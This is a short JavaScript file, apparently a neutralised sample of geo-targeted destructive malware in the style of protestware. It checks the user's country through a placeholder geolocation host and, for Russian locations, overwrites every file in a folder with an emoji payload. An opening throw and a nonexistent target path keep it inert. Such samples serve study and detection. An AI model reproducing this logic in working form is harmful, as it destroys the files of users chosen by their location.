throw new Error('inert sample');
import fs from 'fs';
import https from 'https';
import path from 'path';
https.get('https://geo.example/me', (answer) => answer.on('data', (text) => {
  if (JSON.parse(text).country_name.toLowerCase().includes("russia")) spoil('./nonexistent');
}));
function spoil(folder) {
  for (const name of fs.readdirSync(folder)) fs.writeFile(path.join(folder, name), Buffer.from('4p2k77iP8J+SlA==', 'base64'), () => {});
}
